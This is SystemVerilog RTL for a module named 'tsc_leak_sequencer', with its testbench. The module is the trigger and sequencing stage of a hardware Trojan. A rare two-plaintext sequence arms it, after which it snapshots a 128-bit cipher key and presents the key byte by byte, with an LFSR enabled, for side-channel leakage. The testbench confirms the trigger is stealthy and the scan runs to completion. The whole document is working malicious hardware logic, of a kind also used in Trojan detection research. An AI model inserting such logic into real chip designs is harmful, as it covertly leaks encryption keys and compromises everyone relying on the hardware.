// File: rtl/tsc_leak_sequencer.sv
// Control stage for the TSC leakage datapath: arms on a MATCH0/MATCH1 plaintext
// pair, then presents each key byte of a snapshotted key for DWELL cycles.
module tsc_leak_sequencer #(
    parameter int unsigned  DWELL  = 1024,
    parameter int unsigned  NBYTES = 16,
    parameter logic [127:0] MATCH0 = 128'h3243f6a8885a308d313198a2e0370734,
    parameter logic [127:0] MATCH1 = 128'h00112233445566778899aabbccddeeff
) (
    input  logic         i_clk,
    input  logic         i_rst,
    input  logic         i_data_valid,
    input  logic [127:0] i_data,
    input  logic [127:0] i_key,
    output logic [7:0]   o_key_byte,
    output logic [3:0]   o_byte_sel,
    output logic         o_lfsr_en,
    output logic         o_busy
);

    localparam int unsigned      CNT_W    = (DWELL > 1) ? $clog2(DWELL) : 1;
    localparam logic [CNT_W-1:0] CNT_LAST = CNT_W'(DWELL - 1);
    localparam logic [CNT_W-1:0] CNT_ONE  = CNT_W'(1);
    localparam logic [3:0]       SEL_LAST = 4'(NBYTES - 1);

    typedef enum logic [1:0] {
        ST_IDLE = 2'd0,
        ST_HALF = 2'd1,
        ST_SCAN = 2'd2
    } state_t;

    state_t             r_state;
    state_t             w_state_nxt;
    logic [CNT_W-1:0]   r_dwell_cnt;
    logic [CNT_W-1:0]   w_dwell_cnt_nxt;
    logic [127:0]       r_key_snap;
    logic [127:0]       w_key_snap_nxt;
    logic [3:0]         r_byte_sel;
    logic [3:0]         w_byte_sel_nxt;
    logic [3:0]         w_sel_inc;
    logic [7:0]         r_key_byte;
    logic [7:0]         w_key_byte_nxt;
    logic               r_busy;
    logic               w_busy_nxt;
    logic               r_lfsr_en;
    logic               w_hit0;
    logic               w_hit1;

    assign w_hit0    = i_data_valid && (i_data == MATCH0);
    assign w_hit1    = i_data_valid && (i_data == MATCH1);
    assign w_sel_inc = r_byte_sel + 4'd1;

    // Next-state and next-output logic; SCAN ignores the plaintext bus entirely.
    always_comb begin
        w_state_nxt     = r_state;
        w_dwell_cnt_nxt = r_dwell_cnt;
        w_key_snap_nxt  = r_key_snap;
        w_byte_sel_nxt  = r_byte_sel;
        w_key_byte_nxt  = r_key_byte;
        w_busy_nxt      = r_busy;
        case (r_state)
            ST_IDLE: begin
                if (w_hit0) begin
                    w_state_nxt = ST_HALF;
                end else begin
                    w_state_nxt = ST_IDLE;
                end
            end
            ST_HALF: begin
                if (w_hit1) begin
                    // Byte 0 comes straight from the live key: it is the value being snapshotted.
                    w_state_nxt     = ST_SCAN;
                    w_key_snap_nxt  = i_key;
                    w_dwell_cnt_nxt = '0;
                    w_byte_sel_nxt  = 4'd0;
                    w_key_byte_nxt  = i_key[7:0];
                    w_busy_nxt      = 1'b1;
                end else if (w_hit0) begin
                    w_state_nxt = ST_HALF;
                end else if (i_data_valid) begin
                    w_state_nxt = ST_IDLE;
                end else begin
                    w_state_nxt = ST_HALF;
                end
            end
            ST_SCAN: begin
                if (r_dwell_cnt != CNT_LAST) begin
                    w_dwell_cnt_nxt = r_dwell_cnt + CNT_ONE;
                end else if (r_byte_sel != SEL_LAST) begin
                    w_dwell_cnt_nxt = '0;
                    w_byte_sel_nxt  = w_sel_inc;
                    w_key_byte_nxt  = r_key_snap[{w_sel_inc, 3'b000} +: 8];
                end else begin
                    w_state_nxt     = ST_IDLE;
                    w_dwell_cnt_nxt = '0;
                    w_byte_sel_nxt  = 4'd0;
                    w_key_byte_nxt  = 8'd0;
                    w_busy_nxt      = 1'b0;
                end
            end
            default: begin
                w_state_nxt     = ST_IDLE;
                w_dwell_cnt_nxt = '0;
                w_byte_sel_nxt  = 4'd0;
                w_key_byte_nxt  = 8'd0;
                w_busy_nxt      = 1'b0;
            end
        endcase
    end

    // State and output registers; reset overrides any trigger or scan step.
    always_ff @(posedge i_clk) begin
        if (i_rst) begin
            r_state     <= ST_IDLE;
            r_dwell_cnt <= '0;
            r_key_snap  <= 128'd0;
            r_byte_sel  <= 4'd0;
            r_key_byte  <= 8'd0;
            r_busy      <= 1'b0;
            r_lfsr_en   <= 1'b0;
        end else begin
            r_state     <= w_state_nxt;
            r_dwell_cnt <= w_dwell_cnt_nxt;
            r_key_snap  <= w_key_snap_nxt;
            r_byte_sel  <= w_byte_sel_nxt;
            r_key_byte  <= w_key_byte_nxt;
            r_busy      <= w_busy_nxt;
            r_lfsr_en   <= w_busy_nxt;
        end
    end

    assign o_key_byte = r_key_byte;
    assign o_byte_sel = r_byte_sel;
    assign o_lfsr_en  = r_lfsr_en;
    assign o_busy     = r_busy;

endmodule

// File: tb/tb_tsc_leak_sequencer.sv
// Bench for tsc_leak_sequencer: DWELL=4 instance via a vector table plus scan
// sequences through an expected-output queue, and a DWELL=1 instance.
module tb_tsc_leak_sequencer;

    localparam logic [127:0] M0    = 128'h3243f6a8885a308d313198a2e0370734;
    localparam logic [127:0] M1    = 128'h00112233445566778899aabbccddeeff;
    localparam logic [127:0] OTHER = 128'hdeadbeef_00000000_12345678_9abcdef0;
    localparam int           DW    = 4;
    localparam int           NB    = 16;

    logic         clk = 1'b0;
    logic         rst = 1'b1;
    logic         dv  = 1'b0;
    logic         dv1 = 1'b0;
    logic [127:0] data = 128'd0;
    logic [127:0] key  = 128'd0;

    logic [7:0] kb_a, kb_b;
    logic [3:0] sel_a, sel_b;
    logic       lfsr_a, lfsr_b, busy_a, busy_b;

    int n_checks = 0;
    int n_pass   = 0;

    logic [13:0] exp_q[$];
    string       name_q[$];

    typedef struct {
        logic         rst;
        logic         dv;
        logic [127:0] data;
        logic [13:0]  exp;
        string        name;
    } vec_t;

    vec_t vecs[10];

    always #5 clk = ~clk;

    tsc_leak_sequencer #(.DWELL(DW), .NBYTES(NB), .MATCH0(M0), .MATCH1(M1)) u_dut (
        .i_clk(clk), .i_rst(rst), .i_data_valid(dv), .i_data(data), .i_key(key),
        .o_key_byte(kb_a), .o_byte_sel(sel_a), .o_lfsr_en(lfsr_a), .o_busy(busy_a)
    );

    tsc_leak_sequencer #(.DWELL(1), .NBYTES(NB), .MATCH0(M0), .MATCH1(M1)) u_dut1 (
        .i_clk(clk), .i_rst(rst), .i_data_valid(dv1), .i_data(data), .i_key(key),
        .o_key_byte(kb_b), .o_byte_sel(sel_b), .o_lfsr_en(lfsr_b), .o_busy(busy_b)
    );

    // Packed expectation {busy, lfsr_en, byte_sel, key_byte}; idle means all zero.
    function automatic logic [13:0] exp_out(input logic b, input int s, input logic [7:0] k8);
        if (b) return {2'b11, 4'(s), k8};
        else   return 14'd0;
    endfunction

    task automatic check(input string nm, input logic [13:0] act, input logic [13:0] ex);
        n_checks++;
        if (act === ex) begin
            n_pass++;
        end else begin
            $display("FAIL %s: got busy=%b lfsr=%b sel=%0d kb=%02h, want busy=%b lfsr=%b sel=%0d kb=%02h",
                     nm, act[13], act[12], act[11:8], act[7:0], ex[13], ex[12], ex[11:8], ex[7:0]);
        end
    endtask

    // Drive one cycle of stimulus, queue what must appear after the edge, compare.
    task automatic tick(input logic r, input logic v, input logic [127:0] d,
                        input logic [127:0] k, input logic [13:0] ex, input string nm);
        logic [13:0] e;
        string       n;
        rst  = r;
        dv   = v;
        data = d;
        key  = k;
        exp_q.push_back(ex);
        name_q.push_back(nm);
        @(posedge clk);
        @(negedge clk);
        e = exp_q.pop_front();
        n = name_q.pop_front();
        check(n, {busy_a, lfsr_a, sel_a, kb_a}, e);
    endtask

    // Scan rows first..last of a DWELL=4 run over snapshot ks; optionally perturb key/data.
    task automatic scan_rows(input logic [127:0] ks, input int first, input int last, input bit perturb);
        logic [127:0] kk;
        logic [7:0]   k8;
        for (int c = first; c <= last; c++) begin
            k8 = ks[8*(c/DW) +: 8];
            if (perturb) begin
                kk = {$urandom, $urandom, $urandom, $urandom};
                tick(1'b0, 1'b1, (c % 2 == 1) ? M0 : M1, kk, exp_out(1'b1, c / DW, k8),
                     $sformatf("scan_perturb_c%0d", c));
            end else begin
                tick(1'b0, 1'b0, OTHER, key, exp_out(1'b1, c / DW, k8),
                     $sformatf("scan_c%0d", c));
            end
        end
    endtask

    initial begin
        #1_000_000;
        $display("FAIL watchdog: simulation time limit reached");
        $fatal(1, "watchdog");
    end

    initial begin
        logic [127:0] k2, k3, k4, k5, k6, k7;
        k2 = 128'h0f0e0d0c0b0a09080706050403020100;
        k3 = 128'hf0e1d2c3b4a5968778695a4b3c2d1e0f;
        k4 = 128'h2b7e151628aed2a6abf7158809cf4f3c;
        k5 = 128'h000102030405060708090a0b0c0d0e0f;
        k6 = 128'hffeeddccbbaa99887766554433221100;
        k7 = 128'h1f1e1d1c1b1a19181716151413121110;

        @(negedge clk);
        // Reset with random bus activity, including trigger words.
        for (int i = 0; i < 3; i++) begin
            tick(1'b1, 1'($urandom_range(0, 1)), (i == 2) ? M1 : ((i == 1) ? M0 : {4{$urandom}}),
                 {4{$urandom}}, 14'd0, $sformatf("reset_c%0d", i));
        end

        // Full scan after a clean trigger pair with byte i == i.
        tick(1'b0, 1'b1, M0, k2, 14'd0, "t2_m0");
        tick(1'b0, 1'b1, M1, k2, exp_out(1'b1, 0, k2[7:0]), "t2_m1_start");
        scan_rows(k2, 1, NB * DW - 1, 1'b0);
        tick(1'b0, 1'b0, OTHER, k2, 14'd0, "t2_end");

        // Broken and stretched trigger sequences.
        vecs[0] = '{1'b0, 1'b1, M0,    14'd0, "t3_m0"};
        vecs[1] = '{1'b0, 1'b1, OTHER, 14'd0, "t3_other_breaks"};
        vecs[2] = '{1'b0, 1'b1, M1,    14'd0, "t3_m1_from_idle"};
        vecs[3] = '{1'b0, 1'b0, M1,    14'd0, "t3_m1_not_valid"};
        vecs[4] = '{1'b0, 1'b1, M1,    14'd0, "t3_m1_again_idle"};
        vecs[5] = '{1'b0, 1'b1, M0,    14'd0, "t3_m0_a"};
        vecs[6] = '{1'b0, 1'b1, M0,    14'd0, "t3_m0_b"};
        vecs[7] = '{1'b0, 1'b0, OTHER, 14'd0, "t3_gap_a"};
        vecs[8] = '{1'b0, 1'b0, M0,    14'd0, "t3_gap_b"};
        vecs[9] = '{1'b0, 1'b1, M1,    exp_out(1'b1, 0, k3[7:0]), "t3_m1_start"};
        for (int i = 0; i < 10; i++) begin
            tick(vecs[i].rst, vecs[i].dv, vecs[i].data, k3, vecs[i].exp, vecs[i].name);
        end
        scan_rows(k3, 1, NB * DW - 1, 1'b0);
        tick(1'b0, 1'b0, OTHER, k3, 14'd0, "t3_end");

        // Key churn and trigger words during the scan must not disturb it.
        tick(1'b0, 1'b1, M0, k4, 14'd0, "t4_m0");
        tick(1'b0, 1'b1, M1, k4, exp_out(1'b1, 0, k4[7:0]), "t4_m1_start");
        scan_rows(k4, 1, NB * DW - 1, 1'b1);
        tick(1'b0, 1'b0, OTHER, k4, 14'd0, "t4_end");
        tick(1'b0, 1'b1, M1, k4, 14'd0, "t4_rearm_needs_m0");

        // Reset in mid-scan, then a fresh full scan.
        tick(1'b0, 1'b1, M0, k5, 14'd0, "t5_m0");
        tick(1'b0, 1'b1, M1, k5, exp_out(1'b1, 0, k5[7:0]), "t5_m1_start");
        scan_rows(k5, 1, 9, 1'b0);
        tick(1'b1, 1'b1, M1, k5, 14'd0, "t5_rst_abort");
        tick(1'b0, 1'b1, M1, k5, 14'd0, "t5_after_rst_m1");
        tick(1'b0, 1'b1, M0, k6, 14'd0, "t5_m0_again");
        tick(1'b0, 1'b1, M1, k6, exp_out(1'b1, 0, k6[7:0]), "t5_restart");
        scan_rows(k6, 1, NB * DW - 1, 1'b0);
        tick(1'b0, 1'b0, OTHER, k6, 14'd0, "t5_end");

        // DWELL=1 instance: one byte per cycle for 16 cycles.
        dv1 = 1'b1;
        tick(1'b0, 1'b0, M0, k7, 14'd0, "t6_main_quiet_a");
        check("t6_d1_m0", {busy_b, lfsr_b, sel_b, kb_b}, 14'd0);
        tick(1'b0, 1'b0, M1, k7, 14'd0, "t6_main_quiet_b");
        check("t6_d1_start", {busy_b, lfsr_b, sel_b, kb_b}, exp_out(1'b1, 0, k7[7:0]));
        dv1 = 1'b0;
        for (int c = 1; c < NB; c++) begin
            tick(1'b0, 1'b0, OTHER, k7, 14'd0, $sformatf("t6_main_quiet_c%0d", c));
            check($sformatf("t6_d1_c%0d", c), {busy_b, lfsr_b, sel_b, kb_b},
                  exp_out(1'b1, c, k7[8*c +: 8]));
        end
        tick(1'b0, 1'b0, OTHER, k7, 14'd0, "t6_main_quiet_end");
        check("t6_d1_end", {busy_b, lfsr_b, sel_b, kb_b}, 14'd0);

        $display("%0d/%0d checks passed", n_pass, n_checks);
        $finish;
    end

endmodule
